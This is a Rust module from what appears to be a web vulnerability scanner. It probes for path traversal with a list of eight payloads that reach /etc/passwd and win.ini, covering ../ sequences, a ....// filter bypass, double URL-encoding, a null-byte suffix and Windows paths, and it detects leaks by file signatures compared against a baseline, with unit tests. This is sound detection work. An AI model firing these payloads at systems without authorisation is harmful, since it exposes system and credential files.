//! Path traversal: a value that names a file outside the application's directory makes the
//! answer show that file.
//!
//! Payloads climb to `/etc/passwd` and `win.ini` with plain `../`, an absolute path, a
//! `....//` filter bypass, a `file://` URL, and `%2f` for applications that decode twice. It is
//! a finding only when the file's content signature (a `root:…:0:0:` line, win.ini's
//! `[fonts]` section) is in the answer and in none of the baseline's replays.

use std::sync::LazyLock;

use regex::Regex;

use super::{Attempts, Evidence, Judge, Payload};
use crate::profile::Profile;
use crate::{AttackType, Response};

/// The files reached for, each with the regex its content matches (on lower-cased text).
pub static FILES: LazyLock<[(&str, Regex); 2]> = LazyLock::new(|| {
    [
        ("/etc/passwd", Regex::new(r"(?m)root:[^:\n]*:0:0:").unwrap()),
        (
            "win.ini",
            Regex::new(r"(?s)\[fonts\].*\[extensions\]|; for 16-bit app support").unwrap(),
        ),
    ]
});

const PAYLOADS: [&str; 8] = [
    "../../../../../../../../../../etc/passwd",
    "/etc/passwd",
    "....//....//....//....//....//....//....//....//etc/passwd",
    "file:///etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "../../../../../../../../../../etc/passwd%00.png",
    "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "C:\\Windows\\win.ini",
];

/// Which well-known file an answer shows that the baseline did not: its name.
pub fn new_file(profile: &Profile, answer: &Response) -> Option<&'static str> {
    let body = answer.text().to_lowercase();
    FILES
        .iter()
        .find(|(_, re)| re.is_match(&body) && !profile.already_matches(re))
        .map(|(name, _)| *name)
}

/// The path traversal probe.
pub fn probe() -> Attempts {
    let items = PAYLOADS
        .iter()
        .map(|p| {
            let payload = (*p).to_owned();
            let judge: Judge = Box::new(move |profile, answer| {
                new_file(profile, answer).map(|file| Evidence {
                    attack: AttackType::Ptrav,
                    threat: 70,
                    title: format!("Path traversal reads {file}"),
                    description: format!(
                        "The value {payload:?} made the answer show the content of {file}, which the baseline does not."
                    ),
                    payload: payload.clone(),
                })
            });
            (Payload::Value((*p).to_owned()), judge)
        })
        .collect();
    Attempts::new(AttackType::Ptrav, items)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::{run, value};
    use crate::profile::tests::answer;

    const PASSWD: &str =
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";

    fn profile() -> Profile {
        Profile::learn(&[answer(200, "Quarterly report: all good")]).unwrap()
    }

    #[test]
    fn reading_a_file_outside_the_root_is_found() {
        let mut app = |p: &Payload| {
            let v = value(p);
            if v.starts_with("../") {
                answer(200, PASSWD)
            } else {
                answer(404, "no such report")
            }
        };
        let e = run(&mut probe(), &profile(), &mut app, |_| false).unwrap();
        assert_eq!(e.title, "Path traversal reads /etc/passwd");
        let mut win = |p: &Payload| {
            if value(p).contains("win.ini") {
                answer(
                    200,
                    "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n",
                )
            } else {
                answer(404, "")
            }
        };
        assert_eq!(
            run(&mut probe(), &profile(), &mut win, |_| false)
                .unwrap()
                .title,
            "Path traversal reads win.ini"
        );
    }

    #[test]
    fn a_twin_that_stays_in_its_directory_or_echoes_the_name_gives_nothing() {
        let mut safe = |p: &Payload| answer(404, &format!("no report named {}", value(p)));
        assert!(run(&mut probe(), &profile(), &mut safe, |_| false).is_none());
    }

    #[test]
    fn a_page_that_always_shows_passwd_is_not_credited() {
        let profile = Profile::learn(&[answer(200, PASSWD)]).unwrap();
        assert!(run(&mut probe(), &profile, |_| answer(200, PASSWD), |_| false).is_none());
    }
}
